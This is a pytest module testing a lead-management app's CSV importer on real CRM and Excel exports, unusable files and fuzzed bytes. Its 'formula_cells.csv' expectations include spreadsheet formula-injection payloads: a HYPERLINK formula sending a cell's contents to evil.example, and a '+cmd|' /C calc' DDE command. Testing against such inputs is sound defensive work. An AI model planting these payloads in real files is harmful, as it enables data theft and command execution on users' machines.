"""CSV import as a user meets it: real exports, files that cannot be used, arbitrary bytes.

Every test that says "nothing was written" compares a full dump of every table
(``dump``, import_helpers) before and after, so a stray batch row, owner or
history row fails it. Duplicates, atomicity, rejected rows, undo and presets
have their own test modules beside this one.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from leaddesk.core.clock import FixedClock
from leaddesk.errors import UserError
from leaddesk.operations.context import OperationContext
from leaddesk.operations.importing import import_csv
from leaddesk.operations.leads import create_lead
from leaddesk.operations.scoring import rescore_leads
from leaddesk.storage.schema import import_batches, leads
from tests.operations.importing.import_helpers import (
    EMAIL_CELL,
    FIXTURE_FILES,
    FIXTURES,
    SAMPLE_FILES,
    SAMPLES,
    TEST_NOW,
    assert_same_dump,
    count,
    dump,
    lead_named,
    lead_rows,
    phone_cells,
    records,
    run_import,
    write_csv,
)

# --- every real file, no manual mapping ------------------------------------------------

REAL_FILES = [pytest.param(p, id=f"fixture-{p.name}") for p in FIXTURE_FILES] + [
    pytest.param(p, id=f"sample-{p.name}") for p in SAMPLE_FILES
]


def test_the_suite_clock_is_test_now(clock: FixedClock) -> None:
    assert clock.now() == TEST_NOW


def test_the_fixtures_are_all_there() -> None:
    # A renamed or lost fixture must not silently shrink the parametrised tests.
    assert len(FIXTURE_FILES) >= 11
    assert len(SAMPLE_FILES) >= 5


@pytest.mark.parametrize("path", REAL_FILES)
def test_every_real_file_imports_whole_without_a_mapping(ctx: OperationContext, path: Path) -> None:
    header, data = records(path)
    cells = [cell for row in data for cell in row]

    result = run_import(ctx, path)

    assert (result.created, result.updated, result.skipped, result.rejected) == (
        len(data),
        0,
        0,
        0,
    )
    stored = lead_rows(ctx)
    assert len(stored) == len(data)
    for lead in stored:
        assert lead["first_name"] or lead["last_name"]
        for name in (lead["first_name"], lead["last_name"]):
            # Accents intact: the stored name is written in the file exactly so.
            assert name is None or any(name in cell for cell in cells), name
        assert lead["import_batch_id"] == result.batch_id
    file_emails = {
        c.strip().lower() for row in data for c in row if EMAIL_CELL.fullmatch(c.strip())
    }
    assert {lead["email"] for lead in stored if lead["email"]} == file_emails
    assert sum(bool(lead["phone"]) for lead in stored) == len(phone_cells(header, data))
    # The score written by the importer's fast scorer is the score the app computes.
    with ctx.db.transaction() as connection:
        rescore_leads(connection, [lead["id"] for lead in stored], TEST_NOW)
    assert [lead["score"] for lead in lead_rows(ctx)] == [lead["score"] for lead in stored]


def utc(year: int, month: int, day: int, hour: int = 0, minute: int = 0) -> dt.datetime:
    return dt.datetime(year, month, day, hour, minute, tzinfo=dt.UTC)


# (file, (first name, last name), expected stored values). "owner_name" is the
# owner's name; created_at is the file's created date, else the import's time.
FIXTURE_ROWS: list[tuple[str, tuple[str, str], dict[str, Any]]] = [
    (
        "hubspot_contacts.csv",
        ("Émile", "Schäfer"),
        {
            "email": "emile.schafer@example.com",
            "phone": "+442079460000",
            "company": "Acme, Inc.",
            "job_title": "CEO",
            "stage": "lead",
            "consent": "granted",
            "owner_name": "Sam Seller",
            "created_at": utc(2026, 8, 16, 9, 30),
        },
    ),
    (
        "hubspot_contacts.csv",
        ("María", "Gómez"),
        {
            "stage": "mql",
            "consent": "unknown",
            "company": 'Blue "Sky" Partners',
            "created_at": utc(2026, 10, 25, 9, 30),
        },
    ),
    ("hubspot_contacts.csv", ("Zoë", "Östlund"), {"stage": "customer", "company": "Øresund Foods"}),
    (
        "pipedrive_people.csv",
        ("Mary-Jane", "Berg"),
        {
            "email": "mary-jane.berg@example.com",
            "phone": "+49301234000",
            "temperature": "hot",
            "consent": "granted",
            "job_title": "Head of Operations",
            "created_at": utc(2026, 5, 9, 14, 5),
        },
    ),
    (
        "pipedrive_people.csv",
        ("Oğuz", "Quiñones"),
        {
            "email": "oguz.q@example.net",
            "temperature": "cold",
            "consent": "denied",
            "notes": "Met at the fair.\nWants a call back in March",
        },
    ),
    (
        "pipedrive_people.csv",
        ("Ludwig", "van der Berg"),
        {"temperature": "warm", "company": "Kühne & Söhne"},
    ),
    (
        "salesforce_leads.csv",
        ("Renée", "Dvořák"),
        {
            "temperature": "hot",
            "consent": "unknown",
            "company": "Café Olé S.L.",
            "created_at": utc(2026, 10, 3, 10, 0),
        },
    ),
    (
        "salesforce_leads.csv",
        ("Chloé", "Castaño"),
        {
            "temperature": "warm",
            "consent": "denied",
            "stage": "customer",
            "phone": "+442079460001",
            "created_at": utc(2026, 9, 16, 23, 30),
        },
    ),
    (
        "excel_de_semicolon_cp1252.csv",
        ("Jürgen", "Weiß"),
        {
            "email": "juergen.weiss@example.de",
            "phone": "030 5550001",  # no default country: kept as typed
            "company": "Kühne & Söhne",
            "job_title": "Geschäftsführer",
            "created_at": utc(2026, 4, 3),
        },
    ),
    (
        "excel_de_semicolon_cp1252.csv",
        ("Søren", "Håkansson"),
        {"company": "Müller, Meier GmbH", "phone": "+49301234009", "created_at": utc(2026, 12, 25)},
    ),
    (
        "excel_unicode_text_utf16.csv",
        ("Đorđe", "Jovanović"),
        {"email": "dorde@example.rs", "company": "Beograd, d.o.o.", "country": "Serbia"},
    ),
    ("excel_unicode_text_utf16.csv", ("Yūki", "Tanaka"), {"created_at": TEST_NOW}),
    (
        "google_contacts.csv",
        ("Núria", "Puig"),
        {"phone": "+34612345678", "company": "Café Olé S.L.", "job_title": "Gerente"},
    ),
    (
        "linkedin_connections.csv",
        ("Anaïs", "Lefèvre"),
        {"email": None, "company": "Société Générale", "created_at": utc(2026, 5, 9)},
    ),
    ("linkedin_connections.csv", ("Björn", "Berg"), {"created_at": utc(2025, 1, 14)}),
    (
        "old_mac_cr.csv",
        ("Hélène", "Martin"),
        {"email": "helene.martin@example.fr", "expected_close_date": dt.date(2026, 7, 31)},
    ),
    ("old_mac_cr.csv", ("Agnès", "Roux"), {"expected_close_date": dt.date(2026, 12, 1)}),
    (
        "outlook_contacts.csv",
        ("François", "Dupré"),
        {"phone": "+33123456789", "job_title": "Head of Sales", "notes": "Met at the fair"},
    ),
    (
        "pipe_delimited.csv",
        ("José", "García López"),
        {"phone": "+34911234567", "company": "Ñandú S.A.", "job_title": "Director"},
    ),
    (
        "formula_cells.csv",
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "Injected"),
        {"company": "@SUM(1+1)", "notes": "-2+3", "phone": "+15550100"},
    ),
    (
        "formula_cells.csv",
        ("Tab", "Start"),  # the tab before "Start" is surrounding white space
        {"phone": "=1+1", "company": "+cmd|' /C calc'!A0", "notes": "=1"},
    ),
]

SAMPLE_ROWS: list[tuple[str, tuple[str, str], dict[str, Any]]] = [
    (
        "hubspot_contacts.csv",
        ("Wojciech", "Östlund"),
        {
            "stage": "sql",  # Lifecycle Stage "salesqualifiedlead"
            "email": "wojciech.stlund2@example.net",
            "phone": "(555) 201-0002",
            "company": "Sakura Trading K.K.",
            "created_at": utc(2026, 1, 1, 9, 30),
            "owner_name": "Sam Seller",
        },
    ),
    ("hubspot_contacts.csv", ("Ulrike", "Rossi"), {"stage": "opportunity"}),
    ("hubspot_contacts.csv", ("Hana", "Müller"), {"stage": "opportunity", "consent": "granted"}),
    (
        "pipedrive_people.csv",
        ("Mary-Jane", "Berg"),
        {"temperature": "hot", "consent": "granted", "company": 'Blue "Sky" Partners'},
    ),
    (
        "pipedrive_people.csv",
        ("Oğuz", "Quiñones"),
        {"temperature": "cold", "consent": "denied", "created_at": utc(2026, 6, 13, 14, 5)},
    ),
    ("pipedrive_people.csv", ("Grzegorz", "Takács"), {"temperature": "warm"}),
    (
        "salesforce_leads.csv",
        ("Hana", "Schäfer"),
        {"temperature": "hot", "consent": "unknown", "job_title": "Engineer"},
    ),
    (
        "salesforce_leads.csv",
        ("Ana", "Papadopoulos"),
        {
            "email": "ana.papadopoulos1@example.net",
            "temperature": "warm",
            "consent": "denied",
            "created_at": utc(2026, 9, 16, 10),
        },
    ),
    # Same company and last name as "Hana Schäfer", different email and phone:
    # another person, who must not be skipped as her duplicate.
    (
        "salesforce_leads.csv",
        ("Ana", "Schäfer"),
        {"email": "ana.schfer17@example.com", "temperature": "cold", "consent": "denied"},
    ),
    (
        "excel_semicolon_cp1252.csv",
        ("Quentin", "Rossi"),
        {"company": "Café Olé S.L.", "created_at": utc(2026, 7, 7), "budget_range": "2750,50"},
    ),
    (
        "formula_cells.csv",
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "Injected"),
        {"company": "@SUM(1+1)", "notes": "-2+3"},
    ),
    ("formula_cells.csv", ("Tab", "Start"), {"phone": "=1+1", "company": "+cmd|' /C calc'!A0"}),
]


def _check_row(ctx: OperationContext, path: Path, name: tuple[str, str], expected: Any) -> None:
    run_import(ctx, path)
    named = [r for r in lead_rows(ctx) if (r["first_name"], r["last_name"]) == name]
    if len(named) > 1 and "email" in expected:  # two people of that name in the file
        named = [r for r in named if r["email"] == expected["email"]]
    assert len(named) == 1, named
    lead = named[0]
    assert {key: lead[key] for key in expected} == expected


@pytest.mark.parametrize(
    ("file_name", "name", "expected"),
    [pytest.param(*row, id=f"{row[0]}-{row[1][0][:12]}") for row in FIXTURE_ROWS],
)
def test_fixture_rows_are_stored_as_the_file_says(
    ctx: OperationContext, file_name: str, name: tuple[str, str], expected: dict[str, Any]
) -> None:
    _check_row(ctx, FIXTURES / file_name, name, expected)


@pytest.mark.parametrize(
    ("file_name", "name", "expected"),
    [pytest.param(*row, id=f"{row[0]}-{row[1][0][:12]}") for row in SAMPLE_ROWS],
)
def test_sample_rows_are_stored_as_the_file_says(
    ctx: OperationContext, file_name: str, name: tuple[str, str], expected: dict[str, Any]
) -> None:
    _check_row(ctx, SAMPLES / file_name, name, expected)


def test_rows_with_warnings_are_imported_and_counted(ctx: OperationContext) -> None:
    result = run_import(ctx, FIXTURES / "excel_de_semicolon_cp1252.csv")
    assert (result.created, result.rejected) == (2, 0)
    assert result.warnings == 1  # "030 5550001": no default country, kept as typed


def test_a_default_region_turns_national_numbers_international(ctx: OperationContext) -> None:
    run_import(ctx, FIXTURES / "excel_de_semicolon_cp1252.csv", default_region="DE")
    assert lead_named(ctx, "Jürgen", "Weiß")["phone"] == "+49305550001"


# --- files that cannot be used -----------------------------------------------------


def _unusable(tmp_path: Path, kind: str) -> Path:
    path = tmp_path / f"{kind}.csv"
    if kind == "empty":
        path.write_bytes(b"")
    elif kind == "blank lines":
        path.write_bytes(b"\r\n  \r\n\r\n")
    elif kind == "binary":
        path.write_bytes(bytes(range(256)) * 8)
    elif kind == "png":
        path.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00" + b"\x00" * 64)
    elif kind == "folder":
        path.mkdir()
    elif kind == "no identifying column":
        write_csv(path, [["Company", "Notes", "City"], ["Acme", "hello", "Berlin"]])
    elif kind == "missing":
        pass
    return path


UNUSABLE = ["empty", "blank lines", "binary", "png", "folder", "no identifying column", "missing"]


@pytest.mark.parametrize("kind", UNUSABLE)
def test_an_unusable_file_is_refused_in_one_sentence_and_nothing_is_written(
    ctx: OperationContext, tmp_path: Path, kind: str
) -> None:
    create_lead(ctx, {"first_name": "Anna", "email": "anna@example.com"})
    before = dump(ctx.db)
    path = _unusable(tmp_path, kind)

    with pytest.raises(UserError) as refused:
        import_csv(ctx, path)

    message = str(refused.value)
    assert message.endswith(".")
    assert "\n" not in message
    assert "Traceback" not in message
    assert_same_dump(before, dump(ctx.db))


# --- arbitrary bytes ---------------------------------------------------------------

CSV_HEADERS = ["First Name", "Last Name", "Email", "Phone", "Company", "Create Date", "Rating"]
_cell = st.one_of(
    st.text(max_size=12),
    st.sampled_from(["", "=1+1", "Hot", "2026-13-45", "+49 30 1234567", "a@b.c", '"', "\r\n"]),
)


@st.composite
def csv_like_bytes(draw: st.DrawFn) -> bytes:
    delimiter = draw(st.sampled_from([",", ";", "\t", "|"]))
    headers = draw(st.lists(st.sampled_from(CSV_HEADERS), min_size=1, max_size=5))
    lines = [delimiter.join(headers)]
    for row in draw(st.lists(st.lists(_cell, max_size=6), max_size=6)):
        lines.append(delimiter.join(row))
    content = draw(st.sampled_from(["\r\n", "\n", "\r"])).join(lines)
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "cp1252"]))
    return content.encode(encoding, errors="replace")


@settings(
    max_examples=100,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(content=st.one_of(st.binary(max_size=400), csv_like_bytes()))
def test_any_bytes_import_or_are_refused_clearly(
    ctx: OperationContext, tmp_path: Path, content: bytes
) -> None:
    path = tmp_path / "any.csv"
    path.write_bytes(content)
    before = dump(ctx.db)
    leads_before = count(ctx, leads)
    refusal: UserError | None = None
    try:
        result = import_csv(ctx, path)
    except UserError as error:
        refusal = error
    if refusal is not None:
        assert str(refusal).endswith(".")
        assert "\n" not in str(refusal)
        assert_same_dump(before, dump(ctx.db))
        return
    assert min(result.created, result.updated, result.skipped, result.rejected) >= 0
    assert count(ctx, leads) == leads_before + result.created
    with ctx.db.reading() as connection:
        batch = connection.execute(
            select(import_batches).where(import_batches.c.id == result.batch_id)
        ).one()
    assert (batch.created, batch.updated, batch.skipped, batch.rejected) == (
        result.created,
        result.updated,
        result.skipped,
        result.rejected,
    )
